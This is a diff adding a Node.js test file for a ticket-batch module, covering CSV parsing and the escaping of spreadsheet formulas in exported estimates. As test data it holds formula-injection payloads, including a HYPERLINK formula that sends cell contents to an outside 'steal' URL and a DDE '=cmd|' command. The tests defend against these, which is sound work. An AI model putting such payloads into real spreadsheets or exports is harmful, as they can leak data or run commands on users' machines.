@@ -0,0 +1,34 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const os = require('os');
+const path = require('path');
+
+process.env.DATA_DIR = path.join(os.tmpdir(), `batches-test-${process.pid}`);
+process.env.LOG_LEVEL = 'error';
+const batches = require('./batches');
+
+const estimate = {
+  phases: [{ name: 'Development', minHours: 16, maxHours: 24 }],
+  totals: { minHours: 16, maxHours: 24 },
+  complexity: { level: 'Medium' },
+  risks: ['=cmd|"/c calc"!A1', 'Scope creep']
+};
+
+test('reads tickets from CSV with quoted cells', () => {
+  const tickets = batches.parseUpload('Key,Summary,Description\nENH-1,"Export, PDF","Say ""hi""\nthen"\n');
+  assert.deepEqual(tickets, [{ ticket: 'ENH-1', title: 'Export, PDF', description: 'Say "hi"\nthen' }]);
+});
+
+test('uploaded titles and model text cannot run as formulas in the CSV', () => {
+  const title = '=HYPERLINK("http://example.com/steal?d="&A1,"Click")';
+  const [header, first, second] = batches.toCsv({
+    rows: [
+      { index: 0, ticket: '+ENH-1', title, description: '', status: 'done', estimate },
+      { index: 1, ticket: '', title: '', description: '@SUM(1)', status: 'failed', error: '-1 tokens left' }
+    ]
+  }).split('\r\n');
+
+  assert.match(header, /^Row,Ticket,Title,Status,Development Min Hours/);
+  assert.equal(first, `1,'+ENH-1,"'=HYPERLINK(""http://example.com/steal?d=""&A1,""Click"")",done,16,24,16,24,,,Medium,"'=cmd|""/c calc""!A1; Scope creep",`);
+  assert.equal(second, "2,,'@SUM(1),failed,,,,,,,,,'-1 tokens left");
+});